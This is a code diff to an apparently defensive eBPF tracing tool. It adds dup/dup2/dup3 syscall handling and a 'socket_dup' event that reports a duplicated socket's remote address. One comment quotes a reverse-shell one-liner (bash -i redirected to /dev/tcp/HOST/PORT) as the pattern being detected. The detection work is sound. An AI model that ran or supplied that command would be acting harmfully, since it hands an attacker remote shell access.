@@ -95,6 +95,8 @@
 #define TR_NR_OPEN		2
 #define TR_NR_MMAP		9
 #define TR_NR_MPROTECT		10
+#define TR_NR_DUP		32
+#define TR_NR_DUP2		33
 #define TR_NR_PWRITE64		18
 #define TR_NR_WRITEV		20
 #define TR_NR_CONNECT		42
@@ -114,6 +116,7 @@
 #define TR_NR_EXECVE		59
 #define TR_NR_EXECVEAT		322
 #define TR_NR_OPENAT		257
+#define TR_NR_DUP3		292
 #define TR_NR_UNSHARE		272
 #define TR_NR_ACCEPT4		288
 #define TR_NR_PWRITEV		296
@@ -1227,16 +1230,18 @@ TR_NOINLINE int tr_g_file_open(__u32 nr)
 }
 
 /*
- * The local address of a socket as a struct sockaddr (listen, accept), from
- * the struct sock: AF_INET, AF_INET6, AF_UNIX; other families: the family.
+ * The local (listen, accept) or remote (socket_dup) address of a socket as
+ * a struct sockaddr, from the struct sock: AF_INET, AF_INET6, AF_UNIX (the
+ * peer's bound name for remote); other families: the family alone.
  */
-TR_NOINLINE int tr_g_sock_local(__u32 slot, __u32 idx, __u64 sockp)
+TR_NOINLINE int tr_g_sock_addr(__u32 slot, __u32 idx, __u64 sockp, __u32 remote)
 {
 	__u8 *buf = tr_scratch(slot);
 	struct socket *sock = (struct socket *)sockp;
 	struct sock *sk = READ_KERN(sock->sk);
 	__u16 family = READ_KERN(sk->__sk_common.skc_family);
-	__u16 port = __builtin_bswap16(READ_KERN(sk->__sk_common.skc_num));
+	__u16 port = remote ? READ_KERN(sk->__sk_common.skc_dport) :
+			      __builtin_bswap16(READ_KERN(sk->__sk_common.skc_num));
 	struct {
 		__u16 family;
 		__u16 port;
@@ -1251,16 +1256,21 @@ TR_NOINLINE int tr_g_sock_local(__u32 slot, __u32 idx, __u64 sockp)
 	sa.family = family;
 	if (family == TR_AF_INET) {
 		sa.port = port;
-		sa.flowinfo = READ_KERN(sk->__sk_common.skc_rcv_saddr);
+		sa.flowinfo = remote ? READ_KERN(sk->__sk_common.skc_daddr) :
+				       READ_KERN(sk->__sk_common.skc_rcv_saddr);
 		len = 16;
 	} else if (family == TR_AF_INET6) {
 		sa.port = port;
-		KREAD_N(sa.addr6, sizeof(sa.addr6), sk->__sk_common.skc_v6_rcv_saddr);
+		if (remote)
+			KREAD_N(sa.addr6, sizeof(sa.addr6), sk->__sk_common.skc_v6_daddr);
+		else
+			KREAD_N(sa.addr6, sizeof(sa.addr6), sk->__sk_common.skc_v6_rcv_saddr);
 		len = 28;
 	}
 #ifdef TR_HAVE_UNIX_SOCK
 	else if (family == TR_AF_UNIX) {
-		struct unix_address *ua = READ_KERN(((struct unix_sock *)sk)->addr);
+		struct sock *usk = remote ? READ_KERN(((struct unix_sock *)sk)->peer) : sk;
+		struct unix_address *ua = usk ? READ_KERN(((struct unix_sock *)usk)->addr) : NULL;
 
 		if (ua) {
 			int l = READ_KERN(ua->len);
@@ -1274,6 +1284,31 @@ TR_NOINLINE int tr_g_sock_local(__u32 slot, __u32 idx, __u64 sockp)
 #endif
 	tr_put_kbytes(buf, idx, TR_W_SOCKADDR, &sa, len);
 	return 0;
+}
+
+/*
+ * socket_dup: dup/dup2/dup3 of a socket (a shell's stdin/stdout made a
+ * connection: bash -i >& /dev/tcp/HOST/PORT 0>&1).  Args: oldfd, newfd,
+ * remote_addr.
+ */
+TR_NOINLINE int tr_g_socket_dup(__u32 nr)
+{
+	struct tr_exit_state *es = tr_exit_state();
+	__u8 *buf = tr_scratch(TR_SLOT_EXIT);
+	struct task_struct *task = (struct task_struct *)bpf_get_current_task();
+	struct file *file;
+
+	if (!es || !buf || es->ret < 0)
+		return 0;
+	/* the new fd names the same file as the old one */
+	file = tr_fd_file(task, es->ret);
+	if (!file || !tr_file_is(file, TR_S_IFSOCK))
+		return 0;
+	tr_fill_hdr((void *)buf, TR_EV_SOCKET_DUP, nr);
+	tr_put_u64(buf, 0, (int)es->st.args[0]);
+	tr_put_u64(buf, 1, es->ret);
+	tr_g_sock_addr(TR_SLOT_EXIT, 2, (__u64)READ_KERN(file->private_data), 1);
+	return 1;
 }
 
 /* security_socket_{connect,bind,listen,accept}: the fd is a socket. */
@@ -1312,7 +1347,7 @@ TR_NOINLINE int tr_g_socket(__u32 nr)
 		tr_put_ubytes(buf, 1, TR_W_SOCKADDR, (const void *)es->st.args[1],
 			      (__u32)es->st.args[2], TR_SOCKADDR_MAX);
 	} else {
-		tr_g_sock_local(TR_SLOT_EXIT, 1, (__u64)sock);
+		tr_g_sock_addr(TR_SLOT_EXIT, 1, (__u64)sock, 0);
 		if (id == TR_EV_SECURITY_SOCKET_LISTEN)
 			tr_put_u64(buf, 2, (int)es->st.args[1]);
 	}
@@ -1576,6 +1611,10 @@ TR_NOINLINE int tr_g_derive(__u32 nr)
 	case TR_NR_SETNS:
 	case TR_NR_UNSHARE:
 		return tr_ev_selected(TR_EV_SWITCH_TASK_NS) ? tr_g_ns(nr) : 0;
+	case TR_NR_DUP:
+	case TR_NR_DUP2:
+	case TR_NR_DUP3:
+		return tr_ev_selected(TR_EV_SOCKET_DUP) ? tr_g_socket_dup(nr) : 0;
 	default:
 		return 0;
 	}
